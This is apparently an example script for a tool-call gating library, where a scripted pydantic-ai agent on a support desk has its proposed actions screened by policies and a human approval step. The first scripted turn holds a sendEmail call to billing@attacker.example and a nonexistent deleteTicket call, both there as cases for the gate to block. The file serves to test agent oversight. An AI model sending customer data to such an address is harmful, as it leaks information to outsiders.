"""The support desk on pydantic-ai, offline: pydantic-ai's ``FunctionModel``, the reference
contracts and policies, the simulator, and a SQLite receipt store.

Two user turns. In the first the model proposes an allowed write (a follow-up), a forbidden
call (an e-mail to an address the conversation never gave) and a call to a tool that does
not exist; in the second, an e-mail that needs a person's confirmation: the run ends with
``DeferredToolRequests`` carrying the gate's draft, Dana approves, the run resumes. Prints
``<tool> <route>`` for each decision, then the number of writes the simulator received.

    python examples/frameworks/pydantic_ai_agent.py
"""

from __future__ import annotations

import asyncio
import sys
import tempfile
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import yaml
from pydantic_ai import Agent, DeferredToolRequests, DeferredToolResults
from pydantic_ai.messages import ModelMessage, ModelResponse, TextPart, ToolCallPart
from pydantic_ai.models.function import AgentInfo, FunctionModel

from callgate_rules.harness.simulator import Simulator
from callgate_rules.harness.world import WorldResolvers
from callgate_rules.integrations.frameworks import Turn
from callgate_rules.integrations.frameworks.pydantic_ai import Callgate
from callgate_rules.pipeline.asynchronous import AsyncGate
from callgate_rules.pipeline.decision import Decision

REPO = Path(__file__).resolve().parents[2]
NOW = datetime(2026, 11, 29, 12, 0, tzinfo=UTC)


def calls(*proposed: tuple[str, str, dict[str, Any]]) -> ModelResponse:
    return ModelResponse(parts=[ToolCallPart(name, args, tool_call_id=call_id)
                                for call_id, name, args in proposed])


SCRIPT = [
    calls(("pc_1", "createFollowUp", {"ticketId": "T-1001", "assigneeId": "U-7",
                                      "dueAt": "2026-12-03T09:00:00Z", "note": None}),
          ("pc_2", "sendEmail", {"to": "billing@attacker.example", "subject": "Invoice",
                                 "body": "Here is the invoice."}),
          ("pc_3", "deleteTicket", {"ticketId": "T-1001"})),
    ModelResponse(parts=[TextPart("The follow-up is created; I cannot send that e-mail or "
                                  "delete tickets.")]),
    calls(("pc_4", "sendEmail", {"to": "anna.petrova@northwind.example",
                                 "subject": "Your ticket T-1001",
                                 "body": "Hello Anna, we are on it."})),
    ModelResponse(parts=[TextPart("The e-mail to Anna is sent.")]),
]


def scripted(script: list[ModelResponse]) -> FunctionModel:
    """pydantic-ai's ``FunctionModel``, answering each model request from the script."""
    responses: Iterator[ModelResponse] = iter(script)

    def answer(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        return next(responses)
    return FunctionModel(answer)


def show(decision: Decision) -> None:
    print(decision.tool or decision.log.get("tool"), decision.route)


async def main(store_directory: str) -> int:
    world = yaml.safe_load((REPO / "examples" / "world.yaml").read_text())
    dana = yaml.safe_load((REPO / "examples" / "actors" / "dana.yaml").read_text())
    simulator = Simulator(world)
    gate = AsyncGate.from_paths(
        REPO / "contracts", REPO / "policies", resolvers=WorldResolvers(world),
        executors=simulator.executors(), finder=simulator.find,
        store=f"sqlite:///{store_directory}/receipts.sqlite3", clock=lambda: NOW)
    agent = Agent(scripted(SCRIPT), deps_type=Turn, output_type=[str, DeferredToolRequests],
                  capabilities=[Callgate(gate, on_decision=show)])

    first = Turn(actor=dana, request_id="turn-1")  # one request ID per user message
    result = await agent.run("Follow up on T-1001, mail the invoice, drop the ticket.",
                             deps=first)
    second = Turn(actor=dana, request_id="turn-2")
    result = await agent.run("Tell Anna Petrova (anna.petrova@northwind.example) we are on it.",
                             deps=second, message_history=result.all_messages())
    while isinstance(result.output, DeferredToolRequests):  # a write waits for a person
        approvals = DeferredToolResults()
        for call in result.output.approvals:
            assert result.output.metadata[call.tool_call_id]["draft"], "what the person reads"
            approvals.approvals[call.tool_call_id] = True
            approvals.metadata[call.tool_call_id] = {"by": "dana"}
        result = await agent.run(deps=second, message_history=result.all_messages(),
                                 deferred_tool_results=approvals)
    print(simulator.write_count())
    return 0


if __name__ == "__main__":
    with tempfile.TemporaryDirectory(prefix="callgate-pydantic-ai-") as directory:
        sys.exit(asyncio.run(main(directory)))
